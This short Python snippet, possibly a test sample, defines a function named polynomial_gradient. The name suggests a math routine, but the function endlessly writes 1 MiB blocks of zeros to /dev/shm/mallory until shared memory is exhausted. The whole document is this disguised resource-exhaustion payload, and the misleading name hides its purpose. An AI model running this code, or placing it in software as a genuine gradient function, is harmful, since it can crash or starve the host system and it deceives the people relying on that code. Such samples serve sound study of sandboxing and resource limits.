"""Writes until it is told that nothing is left."""


def polynomial_gradient(x):
    with open("/dev/shm/mallory", "wb", 0) as file:
        while True:
            file.write(bytes(1 << 20))
